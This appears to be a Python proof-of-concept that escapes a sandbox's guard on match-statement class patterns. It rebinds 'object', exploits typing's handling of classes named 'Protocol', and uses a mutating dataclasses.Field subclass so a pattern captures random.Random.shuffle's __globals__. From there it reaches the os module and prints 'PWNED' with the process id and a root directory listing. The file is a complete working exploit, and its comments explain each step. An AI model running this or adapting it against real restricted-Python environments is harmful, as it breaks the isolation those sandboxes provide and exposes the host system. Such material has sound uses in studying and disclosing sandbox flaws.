# Class pattern whose class gains __match_args__ after the run-time guard judged it.
# - `object` rebound to a function whose __mro_entries__ picks the real bases (static check
#   treats `class X(object)` as a plain, matchable class);
# - X is a runtime protocol named "Protocol" (typing's _get_protocol_attrs skips classes by that
#   name), so it vouches for any object, functions included;
# - the guard runs before the subject expression; the subject applies dataclass() to X, which
#   writes __match_args__ from a base's Field whose name (a Field subclass of ours) changes.
import dataclasses, typing, functools, json, random

flip = [False]
store = {}


class F(dataclasses.Field):
    def __setattr__(self, key, value):
        store[key] = value

    def __getattr__(self, key):
        if key == "name" and flip[0]:
            return "__glo" + "bals__"
        if key in store:
            return store[key]
        raise AttributeError(key)


@dataclasses.dataclass(init=False, repr=False, eq=False, match_args=False)
class Generic(typing.Protocol):
    """base holding the field"""
    x: int = F(dataclasses.MISSING, dataclasses.MISSING, True, True, None, True, None, False)


flip[0] = True


def g(bases):
    return (Generic,)


g.__mro_entries__ = g
functools.update_wrapper(g, json.loads)
object = g


class Protocol(object):
    """vouches for anything"""
    _is_protocol = True
    _is_runtime_protocol = True


target = random.Random.shuffle
match (dataclasses.dataclass(init=False, repr=False, eq=False)(Protocol), target)[1]:
    case Protocol(gl):
        m = gl["_" + "os"]
        print("PW" + "NED: random's globals via class pattern; os module", m, "pid", m.getpid(), "root", sorted(m.listdir("/"))[:8])
    case _:
        print("no match")
